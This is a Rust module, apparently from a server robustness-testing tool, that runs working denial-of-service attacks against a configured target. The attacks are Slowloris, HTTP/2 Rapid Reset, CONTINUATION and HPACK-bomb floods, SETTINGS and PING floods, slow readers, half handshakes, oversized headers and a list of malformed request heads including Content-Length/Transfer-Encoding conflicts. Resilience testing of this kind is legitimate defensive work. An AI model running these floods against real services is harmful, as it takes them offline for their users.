//! One go of each kind of attack. An error is the other side's way of ending it.

use std::{fmt::Write as _, time::Duration};

use anyhow::{Context as _, Result, bail};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, sleep, sleep_until, timeout},
};
use tokio_rustls::client::TlsStream;

use super::{Kind, frames};
use crate::client::{Dialler, Server};

/// How long an answer is waited for.
const PATIENCE: Duration = Duration::from_secs(5);
/// How often something is repeated in one go.
const BURST: u32 = 200;

/// Heads that RFC 9112 has every server refuse.
const MALFORMED: [&str; 8] = [
    "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "GET / HTTP/1.1\r\nHost : a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\n\r\n",
    "GET /\u{0} HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    "\u{1}\u{2}\u{3}\r\n\r\n",
    "GET / HTTP/9.9\r\n\r\n",
];

/// Whom it is done to.
pub(super) struct Target {
    http1: Dialler,
    http2: Dialler,
    hello: Vec<u8>,
    path: String,
    /// When what holds a connection lets go of it.
    end: Instant,
}

impl Target {
    pub(super) fn new(server: &Server, path: &str, end: Instant) -> Result<Self> {
        let http1 = server.dialler("http/1.1")?;
        Ok(Self {
            hello: http1.client_hello()?,
            http1,
            http2: server.dialler("h2")?,
            path: path.to_owned(),
            end,
        })
    }

    pub(super) async fn attack(&self, kind: Kind) -> Result<()> {
        match kind {
            Kind::DroppedConnects => Ok(self.http1.tcp().await?.set_zero_linger()?),
            Kind::SilentConnections => self.hold(self.http1.tcp().await?).await,
            Kind::HalfHandshakes => {
                let mut stream = self.http1.tcp().await?;
                stream.write_all(&self.hello[..self.hello.len() / 2]).await?;
                self.hold(stream).await
            }
            Kind::Handshakes => self.http1.tls().await.map(drop),
            Kind::Garbage => {
                let mut stream = self.http1.tcp().await?;
                stream.write_all(&[0xff; 512]).await?;
                read_out(stream).await
            }
            Kind::Slowloris => self.slowloris().await,
            Kind::MalformedHeads => self.malformed().await,
            Kind::LargeHeads => self.large_heads().await,
            Kind::Uploads => self.upload().await,
            Kind::SlowReaders => {
                let path = format!("{}?understudySize=64Mi", self.path);
                let request = frames::get(1, &self.http2.authority(), &path);
                self.hold(self.opened(&request).await?).await
            }
            Kind::RapidReset => self.rapid_reset().await,
            Kind::Continuation => {
                let mut stream = self
                    .opened(&frames::endless(1, &self.http2.authority(), &self.path))
                    .await?;
                self.flood(&mut stream, &frames::continuation(1), BURST).await
            }
            Kind::HpackBomb => {
                let mut stream = self.opened(&[]).await?;
                for id in (1..40).step_by(2) {
                    let bomb = frames::bomb(id, &self.http2.authority(), &self.path);
                    stream.write_all(&bomb).await?;
                }
                stream.flush().await?;
                read_out(stream).await
            }
            Kind::Settings => {
                self.flood(&mut self.opened(&[]).await?, &frames::settings(&[(4, 65_535)]), 1000)
                    .await
            }
            Kind::Pings => self.flood(&mut self.opened(&[]).await?, &frames::ping(), 1000).await,
            Kind::Watches => self.watches().await,
        }
    }

    /// A connection over HTTP/2 on which this has been sent.
    async fn opened(&self, frames: &[u8]) -> Result<TlsStream<TcpStream>> {
        let mut stream = self.http2.tls().await?;
        stream.write_all(&frames::opening()).await?;
        stream.write_all(frames).await?;
        stream.flush().await?;
        Ok(stream)
    }

    /// Keeps a connection and reads nothing.
    async fn hold(&self, stream: impl AsyncRead + AsyncWrite + Unpin) -> Result<()> {
        sleep_until(self.end).await;
        drop(stream);
        Ok(())
    }

    async fn slowloris(&self) -> Result<()> {
        let mut stream = self.http1.tls().await?;
        stream.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ").await?;
        loop {
            stream.write_all(b"a").await?;
            stream.flush().await?;
            match timeout(Duration::from_millis(500), stream.read(&mut [0; 64])).await {
                Err(_) => {}
                Ok(read) => bail!("ended by the server: {read:?}"),
            }
        }
    }

    async fn malformed(&self) -> Result<()> {
        for head in MALFORMED {
            let mut stream = self.http1.tls().await?;
            stream.write_all(head.as_bytes()).await?;
            stream.flush().await?;
            read_out(stream).await?;
        }
        Ok(())
    }

    async fn large_heads(&self) -> Result<()> {
        let mut stream = self.http1.tls().await?;
        let mut head = "GET / HTTP/1.1\r\nHost: a\r\n".to_owned();
        for index in 0..20_000 {
            // Writing to a String cannot fail.
            let _ = write!(head, "X-{index}: {index}\r\n");
        }
        let sent = stream.write_all(head.as_bytes()).await;
        read_out(stream).await?;
        sent.context("the head is too large")?;
        // The same by number, over HTTP/2.
        let many = frames::many_headers(1, &self.http2.authority(), &self.path, 1000);
        read_out(self.opened(&many).await?).await
    }

    /// A megabyte in a second, for as long as it is taken.
    async fn upload(&self) -> Result<()> {
        let mut stream = self
            .opened(&frames::post(1, &self.http2.authority(), &self.path))
            .await?;
        let part = frames::data(1, &" ".repeat(16 * 1024).into_bytes());
        loop {
            for _ in 0..8 {
                stream.write_all(&part).await?;
            }
            stream.flush().await?;
            sleep(Duration::from_millis(125)).await;
        }
    }

    async fn rapid_reset(&self) -> Result<()> {
        let mut stream = self.opened(&[]).await?;
        for id in (1..BURST * 2).step_by(2) {
            let mut both = frames::get(id, &self.http2.authority(), &self.path);
            both.extend(frames::reset(id));
            stream.write_all(&both).await?;
        }
        stream.flush().await?;
        read_out(stream).await
    }

    async fn watches(&self) -> Result<()> {
        let mut stream = self.opened(&[]).await?;
        let path = format!("{}?watch=true", self.path);
        for id in (1..200).step_by(2) {
            stream
                .write_all(&frames::get(id, &self.http2.authority(), &path))
                .await?;
        }
        stream.flush().await?;
        self.hold(stream).await
    }

    /// The same frame again and again, whatever comes back.
    async fn flood(&self, stream: &mut TlsStream<TcpStream>, frame: &[u8], times: u32) -> Result<()> {
        for _ in 0..times {
            stream.write_all(frame).await?;
        }
        stream.flush().await?;
        read_out(stream).await
    }
}

/// Reads what comes, to the end or for a while.
async fn read_out(mut stream: impl AsyncRead + Unpin) -> Result<()> {
    let mut chunk = [0; 512];
    let all = async {
        while stream.read(&mut chunk).await? > 0 {}
        anyhow::Ok(())
    };
    match timeout(PATIENCE, all).await {
        Ok(Ok(())) => bail!("closed by the server"),
        Ok(Err(error)) => Err(error),
        Err(_) => Ok(()),
    }
}
